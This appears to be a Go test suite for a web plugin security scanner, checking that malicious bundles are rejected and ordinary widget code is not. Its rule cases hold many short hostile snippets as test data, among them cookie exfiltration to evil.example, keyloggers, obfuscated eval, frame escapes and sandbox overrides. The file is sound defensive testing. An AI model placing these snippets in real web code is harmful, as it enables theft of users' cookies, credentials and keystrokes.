package scanner_test

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/taylordash/taylordash/pluginhost/scanner"
)

// loadManifest reads the fields the scanner needs from a bundle's
// plugin.json.
func loadManifest(t *testing.T, dir string) scanner.Manifest {
	t.Helper()
	raw, err := os.ReadFile(filepath.Join(dir, "plugin.json"))
	if err != nil {
		t.Fatal(err)
	}
	var pj struct {
		Permissions    []string `json:"permissions"`
		APIEndpoints   []string `json:"api_endpoints"`
		AllowedOrigins []string `json:"allowed_origins"`
	}
	if err := json.Unmarshal(raw, &pj); err != nil {
		t.Fatal(err)
	}
	return scanner.Manifest{Permissions: pj.Permissions, APIEndpoints: pj.APIEndpoints, AllowedOrigins: pj.AllowedOrigins}
}

func newScanner(t testing.TB, cfg scanner.Config) *scanner.Scanner {
	t.Helper()
	s, err := scanner.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// scanFiles scans an in-memory bundle.
func scanFiles(t *testing.T, files map[string]string, m scanner.Manifest) *scanner.Report {
	t.Helper()
	fsys := fstest.MapFS{}
	for name, content := range files {
		fsys[name] = &fstest.MapFile{Data: []byte(content), Mode: 0o644}
	}
	rep, err := newScanner(t, scanner.Config{}).ScanFS(context.Background(), fsys, m)
	if err != nil {
		t.Fatal(err)
	}
	return rep
}

// describe renders findings for failure messages.
func describe(rep *scanner.Report) string {
	var sb strings.Builder
	for _, f := range rep.Findings {
		fmt.Fprintf(&sb, "\n  %s:%d:%d %s %s: %s [%s]", f.File, f.Line, f.Column, f.Severity, f.RuleID, f.Message, f.Snippet)
	}
	return sb.String()
}

// at is a finding's location, for table checks.
type at struct {
	rule      string
	line, col int // col 0: any column
	file      string
	inSnippet string // "" for any snippet
}

func checkAt(t *testing.T, rep *scanner.Report, want []at) {
	t.Helper()
	for _, w := range want {
		found := slices.ContainsFunc(rep.Findings, func(f scanner.Finding) bool {
			return f.RuleID == w.rule && f.Line == w.line && (w.col == 0 || f.Column == w.col) &&
				(w.file == "" || f.File == w.file) && strings.Contains(f.Snippet, w.inSnippet)
		})
		if !found {
			t.Errorf("no %s at line %d col %d %s%s", w.rule, w.line, w.col, w.file, describe(rep))
		}
	}
}

// The four bundles of the original: the legitimate one installs, the
// three malicious ones are rejected, each with the rules below (the
// exact set, so a change in what they produce shows here).
func TestOriginalFixtures(t *testing.T) {
	tests := []struct {
		dir      string
		verdict  scanner.Verdict
		rules    []string
		at       []at
		blocking int // -1: any number above zero
	}{{
		// Installs with warnings: a CDN script without SRI, localStorage
		// without storage:local (both low), and innerHTML given a template
		// with the error message (medium). No finding blocks.
		dir:     "legitimate/project-dashboard",
		verdict: scanner.VerdictWarnings,
		rules:   []string{"code.html-sink", "net.script-integrity", "perm.storage"},
		at: []at{
			{rule: "net.script-integrity", line: 7, col: 5, file: "dashboard.html"},
			{rule: "perm.storage", line: 167, col: 37, inSnippet: "localStorage.getItem"},
			{rule: "perm.storage", line: 196, col: 17},
			{rule: "code.html-sink", line: 364, col: 44, inSnippet: "statsContainer.innerHTML"},
		},
		blocking: 0,
	}, {
		// The "<script>" inside a string on line 16 ends the script
		// element in every browser (HTML is tokenized before JavaScript
		// is parsed): the script is cut off mid-string (a syntax error),
		// lines 16-37 are page text, and the <img onerror> on line 19
		// becomes a real element. The scanner sees what a browser sees;
		// TestXSSFixtureScript checks the rest of that JavaScript.
		dir:     "malicious/xss-injection",
		verdict: scanner.VerdictRejected,
		rules: []string{"code.document-write", "code.eval", "code.inline-handler", "code.javascript-url",
			"code.syntax-error", "frame.embedded"},
		at: []at{
			{rule: "code.eval", line: 13, col: 9, inSnippet: `eval("alert('XSS Attack!')")`},
			{rule: "code.document-write", line: 16, col: 9},
			{rule: "code.syntax-error", line: 16},
			{rule: "code.inline-handler", line: 19, inSnippet: "onerror"},
			{rule: "frame.embedded", line: 42, col: 9, inSnippet: "<iframe"},
			{rule: "code.javascript-url", line: 42, col: 22},
			{rule: "code.javascript-url", line: 43, inSnippet: "<object"},
			{rule: "code.javascript-url", line: 44, inSnippet: "<embed"},
			{rule: "code.inline-handler", line: 48, col: 28},
			{rule: "code.eval", line: 49, col: 22, inSnippet: "onclick"},
			{rule: "code.javascript-url", line: 50, col: 14, inSnippet: "<a href"},
			{rule: "code.javascript-url", line: 55, col: 30, inSnippet: "url('javascript:"},
		},
		blocking: -1,
	}, {
		dir:     "malicious/iframe-escape",
		verdict: scanner.VerdictRejected,
		rules: []string{"code.javascript-url", "exfil.postmessage-wildcard", "frame.document-domain", "frame.embedded",
			"frame.escape", "frame.reference", "frame.sandbox-override", "frame.window-name", "net.undeclared-origin"},
		at: []at{
			{rule: "frame.escape", line: 15, col: 13, inSnippet: "parent.location.href"},
			{rule: "net.undeclared-origin", line: 15, col: 13},
			{rule: "frame.escape", line: 22, inSnippet: "top.location"},
			{rule: "frame.escape", line: 29, inSnippet: "window.frameElement"},
			{rule: "frame.escape", line: 44, inSnippet: "self.parent.document"},
			{rule: "net.undeclared-origin", line: 51, inSnippet: "window.navigate"},
			{rule: "frame.escape", line: 59, inSnippet: "parent.history.back"},
			{rule: "exfil.postmessage-wildcard", line: 65, col: 9},
			{rule: "frame.embedded", line: 73, inSnippet: "createElement('iframe')"},
			{rule: "code.javascript-url", line: 74, col: 9},
			{rule: "frame.document-domain", line: 80, col: 13},
			{rule: "frame.window-name", line: 86},
			{rule: "frame.sandbox-override", line: 97, inSnippet: "setAttribute('sandbox'"},
			{rule: "frame.embedded", line: 102, col: 5},
			{rule: "frame.sandbox-override", line: 102, col: 13},
			// The data: URL's own script, scanned too.
			{rule: "frame.escape", line: 103, inSnippet: "data:text/html"},
		},
		blocking: -1,
	}, {
		dir:     "malicious/data-exfiltration",
		verdict: scanner.VerdictRejected,
		rules: []string{"api.undeclared-endpoint", "code.html-sink", "exfil.cookie", "exfil.fingerprinting",
			"exfil.hardcoded-secret", "exfil.input-listener", "exfil.sensitive-api", "exfil.storage-dump",
			"net.undeclared-origin"},
		at: []at{
			{rule: "exfil.hardcoded-secret", line: 14, col: 25},
			{rule: "exfil.hardcoded-secret", line: 15},
			{rule: "exfil.hardcoded-secret", line: 16},
			{rule: "exfil.cookie", line: 23},
			{rule: "exfil.storage-dump", line: 24, inSnippet: "Object.assign({}, localStorage)"},
			{rule: "exfil.storage-dump", line: 25},
			{rule: "exfil.sensitive-api", line: 41, inSnippet: "window.ethereum"},
			{rule: "exfil.sensitive-api", line: 50, inSnippet: "clipboard.readText"},
			{rule: "net.undeclared-origin", line: 57, col: 13, inSnippet: "evil-attacker.com/collect"},
			{rule: "net.undeclared-origin", line: 67, inSnippet: "pixel?data=${"}, // a template literal
			{rule: "net.undeclared-origin", line: 72, inSnippet: "new WebSocket"}, // wss://
			{rule: "net.undeclared-origin", line: 83, inSnippet: "evil-dns.com"},  // host built at run time
			{rule: "api.undeclared-endpoint", line: 104, col: 45, inSnippet: "/api/v1/admin/users"},
			{rule: "api.undeclared-endpoint", line: 114, inSnippet: "/api/v1/logs"},
			{rule: "exfil.input-listener", line: 134, inSnippet: "keylogger"},
			{rule: "exfil.input-listener", line: 147, inSnippet: "tracker.evil.com"},
			{rule: "net.undeclared-origin", line: 168, inSnippet: "crypto-miner.com"},
		},
		blocking: -1,
	}}
	s := newScanner(t, scanner.Config{})
	for _, tt := range tests {
		t.Run(tt.dir, func(t *testing.T) {
			dir := filepath.Join("testdata", "original", tt.dir)
			rep, err := s.ScanDir(context.Background(), dir, loadManifest(t, dir))
			if err != nil {
				t.Fatal(err)
			}
			if got := rep.Verdict(); got != tt.verdict {
				t.Errorf("verdict %s, want %s%s", got, tt.verdict, describe(rep))
			}
			if got := rep.RuleIDs(); !slices.Equal(got, tt.rules) {
				t.Errorf("rules\n got %q\nwant %q%s", got, tt.rules, describe(rep))
			}
			checkAt(t, rep, tt.at)
			blocking := len(rep.Blocking())
			if tt.blocking >= 0 && blocking != tt.blocking || tt.blocking < 0 && blocking == 0 {
				t.Errorf("%d blocking findings, want %d%s", blocking, tt.blocking, describe(rep))
			}
			if rep.Files != 1 || !slices.Equal(rep.Skipped, []string{"plugin.json"}) {
				t.Errorf("files %d, skipped %q; want the page scanned and plugin.json skipped", rep.Files, rep.Skipped)
			}
			if rep.Blocked != (rep.Verdict() == scanner.VerdictRejected) {
				t.Errorf("Blocked %v with verdict %s", rep.Blocked, rep.Verdict())
			}
		})
	}
}

// The xss-injection fixture's script, as a .js file (where no </script>
// cuts it short): every attack in it is found.
func TestXSSFixtureScript(t *testing.T) {
	page, err := os.ReadFile("testdata/original/malicious/xss-injection/index.html")
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(string(page), "\n")
	script := strings.Join(lines[11:37], "\n") // lines 12-37 of the page
	rep := scanFiles(t, map[string]string{"xss.js": script}, scanner.Manifest{})
	checkAt(t, rep, []at{
		{rule: "code.eval", line: 2},                  // eval("alert('XSS Attack!')")
		{rule: "code.document-write", line: 5},        // document.write("<script>...")
		{rule: "code.inline-handler", line: 8},        // innerHTML = "<img ... onerror=...>"
		{rule: "code.javascript-url", line: 12},       // window.location = "javascript:..."
		{rule: "code.string-handler", line: 16},       // setAttribute('onload', ...)
		{rule: "code.function-constructor", line: 19}, // Function("...")
		{rule: "code.string-timer", line: 23},         // setTimeout("...", 2000)
		{rule: "code.string-timer", line: 26},         // setInterval("...", 5000)
	})
	if rep.Verdict() != scanner.VerdictRejected {
		t.Errorf("verdict %s", rep.Verdict())
	}
	if slices.Contains(rep.RuleIDs(), "code.syntax-error") {
		t.Errorf("the script parses on its own%s", describe(rep))
	}
}

// A bundle of ordinary widget code (testdata/clean: fetch to declared
// endpoints, textContent, addEventListener, local CSS and images, an
// SRI-pinned CDN script, storage with storage:local, a module with
// for-await) installs with no finding at all.
func TestCleanBundle(t *testing.T) {
	dir := filepath.Join("testdata", "clean")
	rep, err := newScanner(t, scanner.Config{}).ScanDir(context.Background(), dir, loadManifest(t, dir))
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Findings) != 0 || rep.Verdict() != scanner.VerdictAccepted {
		t.Errorf("verdict %s, want accepted with no findings%s", rep.Verdict(), describe(rep))
	}
	if rep.Files != 6 {
		t.Errorf("%d files scanned, want 6 (html, mjs, js, 2 css, svg)", rep.Files)
	}
	if !slices.Equal(rep.Skipped, []string{"data.json", "plugin.json"}) {
		t.Errorf("skipped %q", rep.Skipped)
	}
}

// defaultManifest is the manifest of the rule cases.
var defaultManifest = scanner.Manifest{
	Permissions:    []string{"read:projects", "read:events"},
	APIEndpoints:   []string{"/api/v1/projects", "/api/v1/events/*"},
	AllowedOrigins: []string{"https://allowed.example", "https://cdn.example:8443"},
}

type ruleCase struct {
	name     string
	file     string // default app.js
	src      string
	manifest *scanner.Manifest // default defaultManifest
	want     []string          // rule ids that must be found; nil: no finding at all
	exact    bool              // want is the whole set
}

// ruleCases has at least one case for every rule, the list of
// what the original missed first.
var ruleCases = []ruleCase{
	// What the original scanner missed.
	{name: "postMessage to *", src: "parent.postMessage({token: t}, '*');", want: []string{"exfil.postmessage-wildcard"}, exact: true},
	{name: "postMessage targetOrigin *", src: "window.opener && opener.postMessage(d, {targetOrigin: '*'});", want: []string{"exfil.postmessage-wildcard"}},
	{name: "document.domain", src: "document.domain = 'example.com';", want: []string{"frame.document-domain"}, exact: true},
	{name: "sendBeacon", src: "navigator.sendBeacon('/api/v1/projects', JSON.stringify(data));", want: []string{"exfil.send-beacon"}, exact: true},
	{name: "sendBeacon undeclared", src: "addEventListener('pagehide', () => navigator.sendBeacon('https://evil.example/c', data));",
		want: []string{"exfil.send-beacon", "net.undeclared-origin"}, exact: true},
	{name: "script in SVG", file: "icon.svg", src: `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[ fetch('https://evil.example/' + document.cookie) ]]></script></svg>`,
		want: []string{"code.svg-script", "exfil.cookie", "net.undeclared-origin"}, exact: true},
	{name: "script in inline SVG", file: "index.html", src: `<p>x</p><svg><script>eval(location.hash)</script></svg>`,
		want: []string{"code.eval", "code.svg-script"}, exact: true},
	{name: "URL in a template literal", src: "fetch(`https://evil.example/c?d=${encodeURIComponent(document.title)}`);", want: []string{"net.undeclared-origin"}, exact: true},
	{name: "host in a template literal", src: "new Image().src = `https://${btoa(secret)}.evil.example/p.gif`;", want: []string{"net.undeclared-origin"}, exact: true},
	{name: "URL in a concatenation", src: "const base = 'https://evil.example'; fetch(base + '/c', {method: 'POST'});", want: []string{"net.undeclared-origin"}, exact: true},
	{name: "string-built property", src: "window['ev' + 'al']('alert(1)');", want: []string{"code.eval", "code.obfuscated-access"}, exact: true},
	{name: "string-built property, template", src: "const n = `coo${'kie'}`; const c = document[n];", want: []string{"code.obfuscated-access", "exfil.cookie"}, exact: true},
	{name: "string-built property, reversed", src: "globalThis['lave'.split('').reverse().join('')]('1');", want: []string{"code.eval", "code.obfuscated-access"}, exact: true},
	{name: "string-built property, fromCharCode", src: "self[String.fromCharCode(102, 101, 116, 99, 104)]('https://evil.example');",
		want: []string{"code.obfuscated-access", "net.undeclared-origin"}},
	{name: "string-built property, innerHTML", src: "el['inner' + 'HTML'] = s;", want: []string{"code.html-sink", "code.obfuscated-access"}, exact: true},
	{name: "new Worker", src: "const w = new Worker('worker.js');", want: []string{"res.worker"}, exact: true},
	{name: "WebAssembly.instantiate", src: "WebAssembly.instantiate(bytes).then(m => m.instance.exports.run());", want: []string{"res.webassembly"}, exact: true},
	{name: "window.open", src: "window.open('https://allowed.example/help');", want: []string{"frame.window-open"}, exact: true},
	{name: "undeclared API endpoint", src: "fetch('/api/v1/admin/users');", want: []string{"api.undeclared-endpoint"}, exact: true},
	{name: "undeclared API endpoint, dot segments", src: "fetch('/api/v1/projects/../admin');", want: []string{"api.undeclared-endpoint"}, exact: true},
	{name: "undeclared API endpoint, encoded", src: "fetch('/api/v1/%61dmin');", want: []string{"api.undeclared-endpoint"}, exact: true},
	{name: "undeclared API endpoint, dynamic tail", src: "fetch('/api/v1/admin/' + id);", want: []string{"api.undeclared-endpoint"}, exact: true},
	{name: "undeclared host path", src: "fetch('/metrics');", want: []string{"api.undeclared-endpoint"}, exact: true},
	{name: "relative path out of the bundle", src: "fetch('../../api/v1/logs');", want: []string{"api.undeclared-endpoint"}, exact: true},
	{name: "XMLHttpRequest undeclared", src: "const x = new XMLHttpRequest(); x.open('GET', '/api/v1/logs'); x.send();", want: []string{"api.undeclared-endpoint"}, exact: true},
	{name: "URL object undeclared", src: "fetch(new URL('/api/v1/logs', location.origin)); fetch(new URL('https://evil.example/x'));",
		want: []string{"api.undeclared-endpoint", "net.undeclared-origin"}, exact: true},
	{name: "EventSource undeclared", src: "new EventSource('https://evil.example/stream');", want: []string{"net.undeclared-origin"}, exact: true},
	{name: "dynamic import undeclared", src: "import('https://evil.example/m.js').then(m => m.run());", want: []string{"net.undeclared-origin"}, exact: true},
	{name: "static import undeclared", file: "app.mjs", src: "import x from 'https://evil.example/m.js';\nx();", want: []string{"net.undeclared-origin"}, exact: true},
	{name: ".mjs is scanned", file: "a.MJS", src: "export const run = (s) => eval(s);", want: []string{"code.eval"}, exact: true},
	{name: ".cjs is scanned", file: "a.cjs", src: "module.exports = function (s) { return new Function(s); };", want: []string{"code.function-constructor"}, exact: true},
	{name: ".htm is scanned", file: "page.htm", src: `<img src="x.png" onerror="eval(this.alt)">`, want: []string{"code.eval", "code.inline-handler"}, exact: true},
	{name: ".css is scanned", file: "s.CSS", src: `@import url("https://evil.example/x.css");`, want: []string{"net.undeclared-origin"}, exact: true},
	{name: ".xhtml is scanned", file: "p.xhtml", src: `<html xmlns="http://www.w3.org/1999/xhtml"><script>top.location = 'x'</script></html>`, want: []string{"frame.escape"}},

	// Origins are matched exactly, never by prefix (B-P6).
	{name: "origin prefix look-alike", file: "index.html", src: `<script src="https://allowed.example.evil.net/x.js" integrity="sha384-x"></script>`, want: []string{"net.undeclared-origin"}, exact: true},
	{name: "origin userinfo trick", src: "fetch('https://allowed.example@evil.example/x');", want: []string{"net.undeclared-origin"}, exact: true},
	{name: "origin backslash trick", src: `fetch('https://evil.example\\@allowed.example/x');`, want: []string{"net.undeclared-origin"}, exact: true},
	{name: "origin other port", src: "fetch('https://allowed.example:8443/x');", want: []string{"net.undeclared-origin"}, exact: true},
	{name: "origin other scheme", src: "new WebSocket('wss://allowed.example/ws');", want: []string{"net.undeclared-origin"}, exact: true},
	{name: "protocol-relative", file: "index.html", src: `<img src="//evil.example/p.gif">`, want: []string{"net.undeclared-origin"}, exact: true},

	// One case for every other rule.
	{name: "this at top level", src: "this.eval('1'); function f() { return this.eval; }", want: []string{"code.eval"}, exact: true},
	{name: "eval alias", src: "const e = eval; e('1');", want: []string{"code.eval"}, exact: true},
	{name: "global object alias", src: "var w = window, d = w.document;\nw.setTimeout(() => {}, 1);\nd.cookie;", want: []string{"exfil.cookie"}, exact: true},
	{name: "global object alias to frame", src: "const p = window.parent;\np.location.href = '/';", want: []string{"frame.escape", "frame.reference"}, exact: true},
	{name: "global object as an IIFE argument", src: "(function (w, d) {\n  w['ev' + 'al']('1');\n  d.cookie;\n})(window, document);",
		want: []string{"code.eval", "code.obfuscated-access", "exfil.cookie"}, exact: true},
	{name: "UMD wrapper", src: "(function (root, factory) { factory(root); }(typeof window !== 'undefined' ? window : this, function (g) { g.top.location = '/'; }));\n" +
		"(function () { var g = this; }).call(this, this);\n(function (global) { global.fetch('https://evil.example'); }).call(this, this);",
		want: []string{"net.undeclared-origin"}, exact: true},
	{name: "destructured global", src: "const { cookie } = document;\nconst { sendBeacon: b } = navigator;", want: []string{"exfil.cookie", "exfil.send-beacon"}, exact: true},
	{name: "Function constructor via constructor", src: "[].constructor.constructor('alert(1)')();", want: []string{"code.function-constructor"}, exact: true},
	{name: "string timer", src: "setTimeout('tick()', 100);", want: []string{"code.string-timer"}, exact: true},
	{name: "document.write", src: "document.write('<p>hi</p>');", want: []string{"code.document-write"}, exact: true},
	{name: "document.write external script", src: `document.write('<script src="https://evil.example/x.js"></scr' + 'ipt>');`,
		want: []string{"code.document-write", "net.script-integrity", "net.undeclared-origin"}, exact: true},
	{name: "javascript: navigation", src: "location.href = 'javascript:alert(1)';", want: []string{"code.javascript-url"}, exact: true},
	{name: "javascript: with tab", file: "index.html", src: "<a href=\"java\tscript:alert(1)\">x</a>", want: []string{"code.javascript-url"}, exact: true},
	{name: "string handler", src: "el.setAttribute('onclick', 'go()');", want: []string{"code.string-handler"}, exact: true},
	{name: "string handler property", src: "el.onmouseover = 'steal()';", want: []string{"code.string-handler"}, exact: true},
	{name: "inline handler", file: "index.html", src: `<body onload="init()"></body>`, want: []string{"code.inline-handler"}, exact: true},
	{name: "html sink", src: "list.innerHTML = items.map(i => `<li>${i}</li>`).join('');", want: []string{"code.html-sink"}, exact: true},
	{name: "html sink constant markup scanned", src: `box.innerHTML = '<img src=x onerror="fetch(\'https://evil.example\')">';`,
		want: []string{"code.inline-handler", "net.undeclared-origin"}, exact: true},
	{name: "insertAdjacentHTML", src: "el.insertAdjacentHTML('beforeend', html);", want: []string{"code.html-sink"}, exact: true},
	{name: "dynamic script", src: "const s = document.createElement('script'); s.src = url; document.head.append(s);", want: []string{"code.dynamic-script"}, exact: true},
	{name: "dynamic global access", src: "window[name](arg);", want: []string{"code.dynamic-global-access"}, exact: true},
	{name: "css expression", file: "s.css", src: "p { width: expression(alert(1)); }", want: []string{"code.css-expression"}, exact: true},
	{name: "css expression escaped", file: "s.css", src: `p { width: \65 xpression(alert(1)); }`, want: []string{"code.css-expression"}, exact: true},
	{name: "css behavior", file: "index.html", src: `<p style="behavior: url(x.htc)">x</p>`, want: []string{"code.css-expression"}, exact: true},
	{name: "css javascript url escaped", file: "s.css", src: `p { background: url("java\73 cript:alert(1)"); }`, want: []string{"code.javascript-url"}, exact: true},
	{name: "css external url", file: "index.html", src: `<style>body { background: url(https://evil.example/t.gif?u=1) }</style>`, want: []string{"net.undeclared-origin"}, exact: true},
	{name: "svg foreignObject", file: "a.svg", src: `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div>x</div></foreignObject></svg>`, want: []string{"code.svg-foreign-object"}, exact: true},
	{name: "svg onload", file: "a.svg", src: `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('/api/v1/logs')"/>`, want: []string{"api.undeclared-endpoint", "code.inline-handler"}, exact: true},
	{name: "svg animate to javascript:", file: "a.svg", src: `<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>`, want: []string{"code.javascript-url"}, exact: true},
	{name: "patched keyword line hides nothing", src: "// see x.default\neval(1)\nconst d = m.default\neval(2)", want: []string{"code.eval"}, exact: true},
	{name: "syntax error", src: "function broken( {\n  return 1;\n}", want: []string{"code.syntax-error"}, exact: true},
	{name: "frame escape", src: "top.location = '/';", want: []string{"frame.escape"}},
	{name: "frame escape via target", file: "index.html", src: `<a href="/x" target="_top">x</a>`, want: []string{"frame.escape"}, exact: true},
	{name: "frame reference", src: "if (window.top !== window.self) { framed = true; }", want: []string{"frame.reference"}, exact: true},
	{name: "sandbox override", file: "index.html", src: `<iframe src="inner.html" sandbox="allow-scripts allow-same-origin"></iframe>`, want: []string{"frame.embedded", "frame.sandbox-override"}, exact: true},
	{name: "sandbox override from script", src: "frame.sandbox.add('allow-top-navigation');", want: []string{"frame.sandbox-override"}, exact: true},
	{name: "embedded object", file: "index.html", src: `<object data="movie.swf"></object>`, want: []string{"frame.embedded"}, exact: true},
	{name: "window.name", src: "window.name = JSON.stringify(state);", want: []string{"frame.window-name"}, exact: true},
	{name: "meta refresh", file: "index.html", src: `<meta http-equiv="refresh" content="0; url=https://evil.example/">`, want: []string{"frame.meta-refresh", "net.undeclared-origin"}, exact: true},
	{name: "cookie", src: "const c = document.cookie;", want: []string{"exfil.cookie"}, exact: true},
	{name: "storage dump", src: "send(JSON.stringify(sessionStorage));", want: []string{"exfil.storage-dump"}},
	{name: "credential read from storage", src: "const t = localStorage.getItem('auth_token');", manifest: &scanner.Manifest{Permissions: []string{"storage:local"}},
		want: []string{"exfil.credential-read"}, exact: true},
	{name: "password input read", src: "const pw = document.querySelector('input[type=password]').value;", want: []string{"exfil.credential-read"}, exact: true},
	{name: "keylogger to a declared endpoint", src: "document.addEventListener('keydown', (e) => { fetch('/api/v1/projects', {method: 'POST', body: e.key}); });",
		want: []string{"exfil.input-listener"}, exact: true},
	{name: "keylogger as onkeypress", src: "window.onkeypress = function (e) { new Image().src = '/api/v1/projects?k=' + e.key; };",
		want: []string{"exfil.input-listener"}, exact: true},
	{name: "clipboard read", src: "const t = await navigator.clipboard.readText();", want: []string{"exfil.sensitive-api"}, exact: true},
	{name: "geolocation", src: "navigator.geolocation.getCurrentPosition(p => show(p));", want: []string{"exfil.sensitive-api"}, exact: true},
	{name: "fingerprinting", src: "const ua = navigator.userAgent;", want: []string{"exfil.fingerprinting"}, exact: true},
	{name: "hard-coded secret", src: "const apiKey = 'k3y-0123456789abcdefXYZ';", want: []string{"exfil.hardcoded-secret"}, exact: true},
	{name: "hard-coded key format", src: "const cfg = {aws: 'AKIAABCDEFGHIJKLMNOP'};", want: []string{"exfil.hardcoded-secret"}, exact: true},
	{name: "dynamic URL", src: "fetch(config.url);", want: []string{"net.dynamic-url"}, exact: true},
	{name: "external link", file: "index.html", src: `<a href="https://docs.other.example/help">help</a>`, want: []string{"net.external-link"}, exact: true},
	{name: "script without integrity", file: "index.html", src: `<script src="https://allowed.example/lib.js"></script>`, want: []string{"net.script-integrity"}, exact: true},
	{name: "peer connection", src: "const pc = new RTCPeerConnection({iceServers: []});", want: []string{"net.peer-connection"}, exact: true},
	{name: "base tag", file: "index.html", src: `<base href="https://evil.example/">`, want: []string{"net.base-tag", "net.undeclared-origin"}, exact: true},
	{name: "form to undeclared origin", file: "index.html", src: `<form action="https://evil.example/login" method="post"></form>`, want: []string{"net.undeclared-origin"}, exact: true},
	{name: "import map to undeclared origin", file: "index.html", src: `<script type="importmap">{"imports": {"lib": "https://evil.example/lib.js"}}</script>`, want: []string{"net.undeclared-origin"}, exact: true},
	{name: "network permission", src: "fetch('https://allowed.example/data.json');", want: []string{"perm.network"}, exact: true},
	{name: "websocket permission", src: "new WebSocket('wss://cdn.example:8443/live');", manifest: &scanner.Manifest{
		Permissions: []string{"network:http"}, AllowedOrigins: []string{"wss://cdn.example:8443"}}, want: []string{"perm.network"}, exact: true},
	{name: "storage permission", src: "localStorage.setItem('k', 'v');", want: []string{"perm.storage"}, exact: true},
	{name: "service worker", src: "navigator.serviceWorker.register('sw.js');", want: []string{"res.worker"}, exact: true},
	{name: "data: URL content", file: "index.html", src: `<iframe src="data:text/html;base64,PHNjcmlwdD5ldmFsKDEpPC9zY3JpcHQ+"></iframe>`, want: []string{"code.eval", "frame.embedded"}, exact: true},

	// No false positives on ordinary code.
	{name: "fetch to a declared endpoint", src: "const r = await fetch('/api/v1/projects', {headers: {Accept: 'application/json'}});"},
	{name: "fetch to a declared subtree", src: "fetch(`/api/v1/events/${id}?limit=${n}`).then(r => r.json());"},
	{name: "fetch to an allowed origin", src: "fetch('https://allowed.example/v1/data');", manifest: &scanner.Manifest{
		Permissions: []string{"network:http"}, AllowedOrigins: []string{"https://allowed.example"}}},
	{name: "textContent", src: "el.textContent = data.title; el.classList.add('ready'); el.style.color = 'red';"},
	{name: "DOM building", src: "const li = document.createElement('li'); li.append(document.createTextNode(x)); list.appendChild(li);"},
	{name: "addEventListener", src: "button.addEventListener('click', () => load()); document.addEventListener('keydown', e => e.key === 'Escape' && close());"},
	{name: "postMessage to an origin", src: "window.parent.postMessage({type: 'ready'}, 'https://allowed.example');"},
	{name: "literal property access", src: "const n = obj['name']; const v = obj[key]; const first = list[0];"},
	{name: "shadowed globals", src: "function f(top, parent) { return top.x + parent.y; }\nconst open = () => 1; open();\nlet name = 'a'; name = 'b';"},
	{name: "timers with functions", src: "setTimeout(load, 100); setInterval(() => tick(), 1000);"},
	{name: "function( and response =", src: "const response = await fetch('/api/v1/projects'); const json = await response.json(); [1].map(function(x) { return x; });"},
	{name: "innerHTML constant", src: "el.innerHTML = '<strong>Loading…</strong>';"},
	{name: "for await and keyword properties", file: "m.js", src: "async function f(s) {\n  for await (const c of s) { use(c) }\n  const d = mod.default\n  return d\n}"},
	{name: "viewport meta and prose", file: "index.html", src: `<meta name="viewport" content="width=device-width"><p>This widget runs in a sandbox.</p><a href="#top">top</a><img src="img/a.png">`},
	{name: "local CSS", file: "s.css", src: `@import "theme.css"; .a { background: url(img/bg.png); } .b::after { content: "url(https://x)"; }`},
	{name: "module script", file: "index.html", src: `<script type="module">import { a } from './a.js'; a();</script>`},
	{name: "json script", file: "index.html", src: `<script type="application/json">{"not": "code("}</script>`},
	{name: "script with integrity", file: "index.html", src: `<script src="https://allowed.example/lib.js" integrity="sha384-abc" crossorigin="anonymous"></script>`},
	{name: "global object idiom", src: "var g = typeof self != 'undefined' ? self : Function('return this')(); var h = new Function('return this;')();"},
	{name: "source map not loaded", src: "run();\n//# sourceMappingURL=/nonexistent/app.js.map\n"},
	{name: "code in eval is scanned", src: "eval(\"fetch('https://evil.example/c')\");", want: []string{"code.eval", "net.undeclared-origin"}, exact: true},
	{name: "code in Function is scanned", src: "new Function('a', 'return document.cookie + a');", want: []string{"code.function-constructor", "exfil.cookie"}, exact: true},
	{name: "Function in instanceof", src: "if (x instanceof Function) { Function.prototype.call.call(x); }"},
	{name: "plugin files by absolute path", src: "fetch('/plugins/clean-widget/data.json'); import('/plugins/clean-widget/js/extra.mjs');"},
	{name: "relative paths", src: "fetch('data/items.json'); fetch('./config.json'); const workers = typeof Worker !== 'undefined';"},
}

func TestRules(t *testing.T) {
	for _, tc := range ruleCases {
		t.Run(tc.name, func(t *testing.T) {
			m := defaultManifest
			if tc.manifest != nil {
				m = *tc.manifest
			}
			file := tc.file
			if file == "" {
				file = "app.js"
			}
			rep := scanFiles(t, map[string]string{file: tc.src}, m)
			got := rep.RuleIDs()
			if tc.want == nil {
				if len(got) > 0 {
					t.Errorf("want no findings%s", describe(rep))
				}
				return
			}
			for _, w := range tc.want {
				if !slices.Contains(got, w) {
					t.Errorf("no %s%s", w, describe(rep))
				}
			}
			if tc.exact && !slices.Equal(got, tc.want) {
				t.Errorf("rules %q, want exactly %q%s", got, tc.want, describe(rep))
			}
			for _, f := range rep.Findings {
				if f.Line < 1 || f.Column < 1 || f.Snippet == "" {
					t.Errorf("finding without a position or snippet: %+v", f)
				}
			}
		})
	}
}

// Every rule of the table has a case above (file rules have their own
// tests below).
func TestEveryRuleHasACase(t *testing.T) {
	covered := map[string]bool{"file.too-large": true, "file.bundle-too-large": true, "file.too-many-files": true, "file.symlink": true}
	for _, tc := range ruleCases {
		for _, w := range tc.want {
			covered[w] = true
		}
	}
	for _, r := range scanner.Rules() {
		if !covered[r.ID] {
			t.Errorf("rule %s has no case in ruleCases", r.ID)
		}
	}
}
